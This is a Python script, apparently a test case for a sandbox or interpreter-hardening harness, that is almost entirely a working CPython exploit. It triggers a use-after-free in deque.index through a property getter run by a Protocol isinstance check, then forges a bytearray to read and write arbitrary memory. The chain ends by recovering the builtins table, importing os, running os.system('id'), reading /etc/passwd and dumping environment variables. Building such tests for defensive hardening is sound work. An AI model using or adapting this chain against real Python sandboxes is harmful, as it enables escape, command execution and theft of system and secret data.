# expect: reject memory
# line: 29
# why: round 73 (researcher A): isinstance against a runtime_checkable Protocol reads each member by name, running a getter judged on demand only
import typing
import collections

keep = []
got = []
dq = collections.deque()
state = {"n": 0, "payload": b"", "fake": 0}
N = 25


@typing.runtime_checkable
class Tallied(typing.Protocol):
    """isinstance(x, Tallied) asks hasattr(x, name) of every member"""
    flag = 0

    def tally(self):
        return 0


class P:
    """a pure __eq__: an isinstance check against a protocol"""
    flag = 0

    @property
    def tally(self):
        state["n"] += 1
        if state["n"] == 1:
            dq.clear()
            keep.append(bytearray(state["payload"]))
        elif id(self) == state["fake"]:
            got.append(self)
            return 2
        return 1

    def __eq__(self, other):
        return isinstance(self, Tallied) and isinstance(other, P)

    def __hash__(self):
        return 1


def w8(v):
    return v.to_bytes(8, "little")


pad = [tuple([i] * N) for i in range(200)]
dq.append(tuple([P(), 0] + [0] * (N - 2)))
pad2 = [tuple([i] * N) for i in range(200)]
fake = id(dq[0]) + 48
state["fake"] = fake
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(P), 0, 0]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
try:
    dq.index(tuple([P(), P()] + [0] * (N - 2)))
except (RuntimeError, ValueError, SystemError) as e:
    print(type(e).__name__, e)
print("getter runs:", state["n"], len(keep), len(got))
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = got[0]
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
probe = "freed-memory-probe"
# raw read: a little-endian word at address a, byte by byte off the forged bytearray
a = id(w8) + 24  # w8's func_builtins
target = sum([mem[a + i] << (8 * i) for i in range(8)])
cell = [None]
# turn the address into a reference: bump the target's refcount, point a list's item at it
count = sum([mem[target + i] << (8 * i) for i in range(8)])
mem[target:target + 8] = w8(count + 1)
b = id(cell) + 24
slot = sum([mem[b + i] << (8 * i) for i in range(8)])
mem[slot:slot + 8] = w8(target)
table = cell[0]
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:120])
print("environ:", dict(osm.environ))
